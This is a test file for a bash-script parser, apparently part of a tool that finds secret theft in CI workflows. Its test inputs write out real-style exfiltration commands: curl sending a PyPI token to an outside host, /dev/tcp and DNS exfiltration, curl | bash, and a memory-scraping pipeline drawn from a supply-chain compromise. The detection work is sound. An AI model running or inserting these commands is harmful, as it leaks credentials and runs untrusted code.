import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/scripts/index.js';
import { args, command, commands, ofKind, outputNames, show } from './helpers.js';

describe('bash: commands and words', () => {
  it('GhostAction: a secret expression inside a quoted curl argument', async () => {
    const text =
      'curl -s -d "token=${{ secrets.PYPI_API_TOKEN }}" https://bold-dhawan.45-139-104-115.plesk.page\n';
    const s = await parseScript(text, 'bash');
    assert.deepEqual(s.exprs, [{ text: '${{ secrets.PYPI_API_TOKEN }}', start: 18, end: 47 }]);
    assert.equal(s.text.length, text.length);
    assert.equal(s.text.slice(18, 47).startsWith('EGX0'), true);
    const curl = command(s, 'curl');
    assert.deepEqual(args(curl), [
      '"-s"',
      '"-d"',
      '"token=" + expr0',
      '"https://bold-dhawan.45-139-104-115.plesk.page"',
    ]);
    assert.equal(curl.args[2]?.raw, s.text.slice(11, 48));
    assert.deepEqual(
      { line: curl.args[2]?.span.line, column: curl.args[2]?.span.column },
      { line: 1, column: 12 },
    );
    assert.deepEqual(s.errors, []);
  });

  it('a pipeline links each command to the one feeding it', async () => {
    const s = await parseScript('echo $T | base64 | curl -X POST --data-binary @- http://x\n', 'bash');
    const [echo, b64, curl] = commands(s);
    assert.equal(echo?.name, 'echo');
    assert.deepEqual(args(echo), ['$T']);
    assert.equal(b64?.pipeFrom, 0);
    assert.equal(curl?.pipeFrom, 1);
    assert.deepEqual(args(curl), ['"-X"', '"POST"', '"--data-binary"', '"@-"', '"http://x"']);
  });

  it('/dev/tcp via exec and a descriptor, on separate statements', async () => {
    const s = await parseScript('exec 3<>/dev/tcp/1.2.3.4/443; echo $T >&3\n', 'bash');
    const exec = command(s, 'exec');
    assert.deepEqual(
      exec.redirects.map((r) => [r.fd, r.op, show(r.target)]),
      [[3, '<>', '"/dev/tcp/1.2.3.4/443"']],
    );
    const echo = command(s, 'echo');
    assert.deepEqual(
      echo.redirects.map((r) => [r.op, show(r.target)]),
      [['>&', '"3"']],
    );
    // A descriptor duplication is not a file write.
    assert.equal(
      ofKind(s, 'write').some((w) => show(w.target) === '"3"'),
      false,
    );
  });

  it('DNS exfiltration through a command substitution', async () => {
    const s = await parseScript('dig $(echo $T | base32 | tr -d =).evil.example\n', 'bash');
    const dig = command(s, 'dig');
    assert.deepEqual(outputNames(s, dig.args[0]), ['echo', 'base32', 'tr']);
    assert.equal(dig.args[0]?.parts.at(-1)?.kind, 'literal');
    assert.deepEqual(dig.args[0]?.parts.at(-1), { kind: 'literal', text: '.evil.example' });
    // Inner commands come first: they run before dig.
    assert.ok(s.ops.indexOf(dig) > s.ops.indexOf(command(s, 'tr')));
    assert.equal(command(s, 'tr').pipeFrom, s.ops.indexOf(command(s, 'base32')));
  });

  it('backticks and process substitution are outputs too', async () => {
    const s = await parseScript('curl -d "`cat ~/.npmrc`" https://x; diff <(printenv) b\n', 'bash');
    assert.deepEqual(outputNames(s, command(s, 'curl').args[1]), ['cat']);
    assert.deepEqual(outputNames(s, command(s, 'diff').args[0]), ['printenv']);
  });

  it('parameter expansions keep the variable and name the transform', async () => {
    const s = await parseScript('echo "${T:0:4}" ${T//a/b} ${T^^} ${#T} ${T:-x} "${HOME}/x"\n', 'bash');
    assert.deepEqual(args(command(s, 'echo')), [
      '$T:slice',
      '$T:replace',
      '$T:upper',
      '$T:length',
      '$T:default',
      '$HOME + "/x"',
    ]);
  });

  it("quotes are removed; single quotes and $'…' are literal; globs and arithmetic are dynamic", async () => {
    const s = await parseScript("echo 'a $b' \"c\\\"d\" e\\ f $'x\\ty' *.txt $((1+2))\n", 'bash');
    assert.deepEqual(args(command(s, 'echo')), ['"a $b"', '"c\\"d"', '"e f"', '"x\\ty"', 'dyn', 'dyn']);
  });

  it('wrappers and paths are stripped from command names', async () => {
    const s = await parseScript(
      [
        'sudo -E -u root /usr/bin/curl -d @f https://a',
        'env -i X=1 Y=$T python3 x.py',
        'timeout 10 nohup wget https://b',
        'command -v curl',
        'echo $T | xargs -I{} curl -d {} https://c',
        'time ./deploy.sh',
      ].join('\n'),
      'bash',
    );
    const curl = command(s, 'curl');
    assert.deepEqual(curl.wrappers, ['sudo']);
    assert.equal(curl.nameWord.raw, '/usr/bin/curl');
    assert.deepEqual(args(curl), ['"-d"', '"@f"', '"https://a"']);
    const py = command(s, 'python3');
    assert.deepEqual(
      py.envPrefix.map((a) => [a.name, show(a.value), a.env]),
      [
        ['X', '"1"', true],
        ['Y', '$T', true],
      ],
    );
    assert.deepEqual(command(s, 'wget').wrappers, ['timeout', 'nohup']);
    assert.equal(commands(s)[3]?.name, 'command');
    const viaXargs = command(s, 'curl', 1);
    assert.deepEqual(viaXargs.wrappers, ['xargs']);
    assert.equal(viaXargs.pipeFrom, s.ops.indexOf(command(s, 'echo')));
    assert.equal(command(s, 'deploy.sh').wrappers?.[0], 'time');
  });

  it('a pipeline of several stages does not swallow the next lines (tree-sitter-bash #347)', async () => {
    const s = await parseScript('a | grep x | head -30\necho B && cd s\nls 2>/dev/null\n', 'bash');
    assert.deepEqual(
      commands(s).map((c) => [c.name, c.args.length]),
      [
        ['a', 0],
        ['grep', 1],
        ['head', 1],
        ['echo', 1],
        ['cd', 1],
        ['ls', 0],
      ],
    );
  });
});

describe('bash: assignments, redirections, writes', () => {
  it('echo to $GITHUB_ENV is a write of its arguments', async () => {
    const s = await parseScript('echo "X=$T" >> $GITHUB_ENV\necho "::add-mask::$T"\n', 'bash');
    const [w] = ofKind(s, 'write');
    assert.equal(show(w?.target), '$GITHUB_ENV');
    assert.equal(show(w?.content), '"X=" + $T');
    assert.equal(w?.append, true);
    assert.deepEqual(
      command(s, 'echo').redirects.map((r) => r.op),
      ['>>'],
    );
  });

  it('here-documents: body parts expand unless the delimiter is quoted', async () => {
    const s = await parseScript(
      'cat <<EOF >> "$GITHUB_ENV"\nTOKEN=$T\nAT=$(date)\nEOF\ncat <<\'EOF\' > out.txt\nraw $X\nEOF\n',
      'bash',
    );
    const [first, second] = ofKind(s, 'write');
    assert.equal(show(first?.target), '$GITHUB_ENV');
    assert.equal(show(first?.content), '"TOKEN=" + $T + "\\nAT=" + out[0] + "\\n"');
    assert.equal(show(second?.content), '"raw $X\\n"');
    const cat = command(s, 'cat');
    assert.deepEqual(
      cat.redirects.map((r) => [r.op, show(r.target)]),
      [
        ['<<', '"EOF"'],
        ['>>', '$GITHUB_ENV'],
      ],
    );
  });

  it('a grouped echo to $GITHUB_ENV writes every command output', async () => {
    const s = await parseScript('{ echo "A=1"; echo "B=$T"; } >> "$GITHUB_ENV"\n', 'bash');
    const [w] = ofKind(s, 'write');
    assert.deepEqual(outputNames(s, w?.content), ['echo', 'echo']);
    for (const c of commands(s)) assert.equal(show(c.redirects[0]?.target), '$GITHUB_ENV');
  });

  it('tee -a writes what is piped in', async () => {
    const s = await parseScript('echo "out=$T" | tee -a "$GITHUB_OUTPUT"\n', 'bash');
    const [w] = ofKind(s, 'write');
    assert.equal(show(w?.target), '$GITHUB_OUTPUT');
    assert.deepEqual(outputNames(s, w?.content), ['echo']);
    assert.equal(w?.append, true);
  });

  it('assignment forms: plain, export, declare -x, local, read, for', async () => {
    const s = await parseScript(
      [
        'A=${{ secrets.T }}',
        'export B=$A C',
        'declare -x D="x$A"',
        'local E=1',
        'read -r F <<< "$A"',
        'echo $A | read G',
        'for H in a $A; do :; done',
        'I+=more',
      ].join('\n'),
      'bash',
    );
    assert.deepEqual(
      ofKind(s, 'assign').map((a) => [a.name, show(a.value), a.env]),
      [
        ['A', 'expr0', false],
        ['B', '$A', true],
        ['C', '$C', true],
        ['D', '"x" + $A', true],
        ['E', '"1"', false],
        ['F', '$A', false],
        ['G', `out[${s.ops.indexOf(command(s, 'echo'))}]`, false],
        ['H', '"a" + $A', false],
        ['I', '$I + "more"', false],
      ],
    );
  });

  it('functions list their body and calls are linked', async () => {
    const s = await parseScript(
      'send() { curl -d "$1" https://x; }\nfunction other { :; }\nsend "$T"\n',
      'bash',
    );
    const [send, other] = ofKind(s, 'function');
    assert.equal(send?.name, 'send');
    assert.deepEqual(
      send?.body.map((i) => s.ops[i]?.kind),
      ['command'],
    );
    assert.equal(other?.name, 'other');
    assert.equal(command(s, 'send').calls, 'send');
    assert.equal(command(s, 'curl').calls, undefined);
  });

  it('every branch, loop body and subshell is included', async () => {
    const s = await parseScript(
      'if [ -n "$(curl a)" ]; then wget b; elif true; then (nc c 1); else case $x in y) ssh d;; esac; fi\nwhile read l; do scp e; done < f\n',
      'bash',
    );
    assert.deepEqual(
      commands(s).map((c) => c.name),
      ['curl', 'wget', 'true', 'nc', 'ssh', 'read', 'scp'],
    );
  });

  it('memdump: the secret-scraping pipeline of the tj-actions compromise', async () => {
    const s = await parseScript(
      'sudo python3 memdump.py | tr -d \'\\0\' | grep -aoE \'"[^"]+":\\{"value":"[^"]*","isSecret":true\\}\' | sort -u | base64 -w 0 | base64 -w 0\n',
      'bash',
    );
    const py = command(s, 'python3');
    assert.deepEqual(py.wrappers, ['sudo']);
    assert.deepEqual(args(py), ['"memdump.py"']);
    const grep = command(s, 'grep');
    assert.equal(show(grep.args[1]), JSON.stringify('"[^"]+":\\{"value":"[^"]*","isSecret":true\\}'));
    assert.equal(grep.pipeFrom, s.ops.indexOf(command(s, 'tr')));
    assert.equal(ofKind(s, 'inline').length, 0);
  });
});

describe('bash: inline interpreters', () => {
  it('curl | bash pipes remote code into an interpreter', async () => {
    const s = await parseScript('curl -sSfL https://x/install.sh | bash\n', 'bash');
    assert.equal(command(s, 'bash').pipeFrom, 0);
    assert.equal(ofKind(s, 'inline').length, 0);
  });

  it("python3 - <<'EOF' heredoc is parsed as python", async () => {
    const text = [
      "python3 - <<'EOF'",
      'import os, requests',
      'requests.post("https://x.example", data=os.environ["T"])',
      'EOF',
      '',
    ].join('\n');
    const s = await parseScript(text, 'bash');
    const [inl] = ofKind(s, 'inline');
    assert.equal(inl?.language, 'python');
    assert.equal(inl?.interpreter, 'python3');
    assert.equal(inl?.codeOffset, text.indexOf('import'));
    const post = inl?.script?.ops.find((o) => o.kind === 'call' && o.callee === 'requests.post');
    assert.ok(post && post.kind === 'call');
    assert.equal(show(post.kwargs.data), '$T@env');
    assert.equal(command(s, 'python3').redirects[0]?.op, '<<');
  });

  it('node -e with a secret dump, bash -c, pwsh -Command, ruby -e', async () => {
    const s = await parseScript(
      [
        "node -e \"fetch('https://x', {method:'POST', body: JSON.stringify(process.env)})\"",
        'bash -c "curl -d $T https://y"',
        'pwsh -NoProfile -Command "iwr -Uri https://z -Body $env:T"',
        "ruby -e 'puts ENV.to_h'",
        'python3 -u -c "import os; print(os.environ)"',
      ].join('\n'),
      'bash',
    );
    const inl = ofKind(s, 'inline');
    assert.deepEqual(
      inl.map((i) => [i.language, i.interpreter]),
      [
        ['javascript', 'node'],
        ['bash', 'bash'],
        ['powershell', 'pwsh'],
        ['ruby', 'ruby'],
        ['python', 'python3'],
      ],
    );
    const fetch = inl[0]?.script?.ops.find((o) => o.kind === 'call' && o.callee === 'fetch');
    assert.ok(fetch?.kind === 'call');
    assert.equal(show(fetch.args[1]?.props?.body), 'ENV');
    const curl = inl[1]?.script?.ops.find((o) => o.kind === 'command');
    assert.ok(curl?.kind === 'command');
    assert.deepEqual(args(curl), ['"-d"', '$T', '"https://y"']);
    const iwr = inl[2]?.script?.ops.find((o) => o.kind === 'command');
    assert.equal(iwr?.kind === 'command' && iwr.name, 'Invoke-WebRequest');
    assert.equal(inl[3]?.script, undefined);
    assert.equal(show(inl[3]?.code), '"puts ENV.to_h"');
    // The interpreter's own command is still there.
    assert.equal(command(s, 'node').args.length, 2);
  });

  it('a here-document after an && list belongs to its last command (tree-sitter-bash #345)', async () => {
    const s = await parseScript("cd dir && python3 - <<'PY'\nimport os\nos.system('curl x')\nPY\n", 'bash');
    assert.deepEqual(command(s, 'cd').redirects, []);
    assert.equal(command(s, 'python3').redirects[0]?.op, '<<');
    const [inl] = ofKind(s, 'inline');
    const system = inl?.script?.ops[0];
    assert.ok(system?.kind === 'call');
    assert.equal(system.callee, 'os.system');
    assert.deepEqual(args(system), ['"curl x"']);
  });

  it('a secret expression inside inline code stays an expression of the nested script', async () => {
    const s = await parseScript('python -c "print(\'${{ secrets.T }}\')"\n', 'bash');
    const [inl] = ofKind(s, 'inline');
    assert.equal(inl?.script?.exprs[0]?.text, '${{ secrets.T }}');
    const print = inl?.script?.ops[0];
    assert.ok(print?.kind === 'call');
    assert.equal(show(print.args[0]), 'expr0');
  });
});
